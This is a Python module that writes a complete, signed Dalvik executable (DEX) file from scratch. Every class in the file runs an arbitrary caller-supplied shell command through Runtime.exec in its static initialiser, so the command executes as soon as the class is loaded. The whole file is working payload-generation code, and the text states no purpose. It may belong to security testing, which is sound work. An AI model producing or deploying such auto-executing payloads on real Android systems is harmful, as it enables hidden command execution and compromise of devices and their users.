"""A DEX file whose classes run one command when they are initialised. Pure.

Source: AOSP, "Dalvik executable format" (035) and "Dalvik bytecode". Every class extends Object, has a public
constructor, and in its static initialiser `Runtime.getRuntime().exec(command)`.
"""

import hashlib
import struct
import zlib
from collections.abc import Sequence

_HEADER = 112
_PUBLIC, _STATIC, _CONSTRUCTOR = 0x1, 0x8, 0x10000
_OBJECT, _RUNTIME, _PROCESS, _STRING = (
    "Ljava/lang/Object;", "Ljava/lang/Runtime;", "Ljava/lang/Process;", "Ljava/lang/String;"
)  # fmt: skip
_TYPES = (_OBJECT, _PROCESS, _RUNTIME, _STRING, "V")
_PROTOS = ((_PROCESS, (_STRING,)), (_RUNTIME, ()), ("V", ()))  # by return type, as the format wants them
_NO_INDEX = 0xFFFFFFFF


def dex(classes: Sequence[str], command: str) -> bytes:
    """The file; `classes` in Java's notation, distinct, each of letters, digits, `_` and `$`."""
    return _Writer(sorted({f"L{name.replace('.', '/')};" for name in classes}), command).written()


class _Writer:
    """One file. Tables are sorted as the format wants them; what they point at follows in `_data`."""

    def __init__(self, classes: list[str], command: str) -> None:
        self._classes = classes
        shorties = {self._shorty(result, takes) for result, takes in _PROTOS}
        names = {"<clinit>", "<init>", "exec", "getRuntime", command}
        self._strings = sorted({*_TYPES, *classes, *shorties, *names})
        self._types = sorted({*_TYPES, *classes}, key=self._strings.index)
        self._protos = sorted(_PROTOS, key=lambda proto: self._type(proto[0]))
        self._methods = sorted(self._wanted(), key=lambda one: (self._type(one[0]), self._string(one[1])))
        self._command = command
        self._data = bytearray()
        self._map: list[tuple[int, int, int]] = []

    def _wanted(self) -> list[tuple[str, str, int]]:
        """Owner, name and prototype of each method that is called or brought."""
        own = [(owner, name, 2) for owner in self._classes for name in ("<clinit>", "<init>")]
        called = [(_OBJECT, "<init>", 2), (_RUNTIME, "getRuntime", 1), (_RUNTIME, "exec", 0)]
        return [(owner, name, self._protos.index(_PROTOS[proto])) for owner, name, proto in (*own, *called)]

    @staticmethod
    def _shorty(result: str, takes: Sequence[str]) -> str:
        return "".join(name[0] for name in (result, *takes))

    def _string(self, text: str) -> int:
        return self._strings.index(text)

    def _type(self, name: str) -> int:
        return self._types.index(name)

    def _method(self, owner: str, name: str) -> int:
        return next(i for i, one in enumerate(self._methods) if one[:2] == (owner, name))

    @property
    def _start(self) -> int:
        """Where the data begins, behind the header and the tables."""
        tables = (4, self._strings), (4, self._types), (12, self._protos), (8, self._methods)
        return _HEADER + sum(size * len(rows) for size, rows in tables) + 32 * len(self._classes)

    def _align(self) -> int:
        self._data += bytes(-(self._start + len(self._data)) % 4)
        return self._start + len(self._data)

    def _put(self, kind: int, items: Sequence[bytes], *, aligned: bool = False) -> list[int]:
        """Items of one kind, one behind the other; their offsets."""
        offsets = []
        for item in items:
            offsets.append(self._align() if aligned else self._start + len(self._data))
            self._data += item
        self._map.append((kind, len(items), offsets[0]))
        return offsets

    def written(self) -> bytes:
        """The bytes of the file."""
        arguments = self._put(0x1001, [struct.pack("<IH", 1, self._type(_STRING))], aligned=True)[0]
        code = [item for owner in self._classes for item in (self._runs(), self._constructs(owner))]
        bodies = self._put(0x2001, code, aligned=True)
        texts = self._put(0x2002, [_uleb(len(text)) + text.encode() + b"\0" for text in self._strings])
        data = [self._class_data(owner, bodies[2 * i : 2 * i + 2]) for i, owner in enumerate(self._classes)]
        parts = self._put(0x2000, data)
        tables = [
            (0x0001, [struct.pack("<I", offset) for offset in texts]),
            (0x0002, [struct.pack("<I", self._string(name)) for name in self._types]),
            (0x0003, [self._proto(result, takes, arguments) for result, takes in self._protos]),
            (0x0005, [self._method_row(*method) for method in self._methods]),
            (
                0x0006,
                [self._class_row(owner, part) for owner, part in zip(self._classes, parts, strict=True)],
            ),
        ]
        return self._finished(tables)

    def _runs(self) -> bytes:
        """`Runtime.getRuntime().exec(command)`, in two registers."""
        units = struct.pack("<3H", 0x0071, self._method(_RUNTIME, "getRuntime"), 0)  # invoke-static {}
        units += struct.pack("<H", 0x000C)  # move-result-object v0
        units += struct.pack("<2H", 0x011A, self._string(self._command))  # const-string v1
        units += struct.pack("<3H", 0x206E, self._method(_RUNTIME, "exec"), 0x0010)  # invoke-virtual {v0, v1}
        return _code(units + struct.pack("<H", 0x000E), registers=2, takes=0, gives=2)

    def _constructs(self, owner: str) -> bytes:
        del owner
        units = struct.pack("<3H", 0x1070, self._method(_OBJECT, "<init>"), 0)  # invoke-direct {v0}
        return _code(units + struct.pack("<H", 0x000E), registers=1, takes=1, gives=1)

    def _class_data(self, owner: str, bodies: Sequence[int]) -> bytes:
        first, second = self._method(owner, "<clinit>"), self._method(owner, "<init>")
        flags = (_STATIC | _CONSTRUCTOR, _PUBLIC | _CONSTRUCTOR)
        found = bytes((0, 0, 2, 0)) + _uleb(first) + _uleb(flags[0]) + _uleb(bodies[0])
        return found + _uleb(second - first) + _uleb(flags[1]) + _uleb(bodies[1])

    def _proto(self, result: str, takes: Sequence[str], arguments: int) -> bytes:
        shorty = self._string(self._shorty(result, takes))
        return struct.pack("<3I", shorty, self._type(result), arguments if takes else 0)

    def _method_row(self, owner: str, name: str, proto: int) -> bytes:
        return struct.pack("<HHI", self._type(owner), proto, self._string(name))

    def _class_row(self, owner: str, data: int) -> bytes:
        kind, parent = self._type(owner), self._type(_OBJECT)
        return struct.pack("<8I", kind, _PUBLIC, parent, 0, _NO_INDEX, 0, data, 0)

    def _finished(self, tables: Sequence[tuple[int, Sequence[bytes]]]) -> bytes:
        at, rows, places = _HEADER, bytearray(), {}
        for kind, items in tables:
            places[kind] = (len(items), at)
            rows += b"".join(items)
            at = _HEADER + len(rows)
        map_at = self._align()
        listed = [(0x0000, 1, 0), *((kind, *place) for kind, place in places.items()), *self._map]
        listed.append((0x1000, 1, map_at))
        self._data += struct.pack("<I", len(listed))
        for kind, count, offset in sorted(listed, key=lambda one: one[2]):
            self._data += struct.pack("<HHII", kind, 0, count, offset)
        sizes = [word for kind in (1, 2, 3, 4, 5, 6) for word in places.get(kind, (0, 0))]
        body = bytes(rows + self._data)
        words = (_HEADER + len(body), _HEADER, 0x12345678, 0, 0, map_at, *sizes)
        return _signed(struct.pack("<20I", *words, len(self._data), self._start) + body)


def _code(units: bytes, *, registers: int, takes: int, gives: int) -> bytes:
    return struct.pack("<4HII", registers, takes, gives, 0, 0, len(units) // 2) + units


def _signed(rest: bytes) -> bytes:
    digest = hashlib.sha1(rest, usedforsecurity=False).digest()
    return b"dex\n035\0" + struct.pack("<I", zlib.adler32(digest + rest)) + digest + rest


def _uleb(value: int) -> bytes:
    found = bytearray()
    while value > 0x7F:
        found.append(value & 0x7F | 0x80)
        value >>= 7
    return bytes(found + bytes([value]))
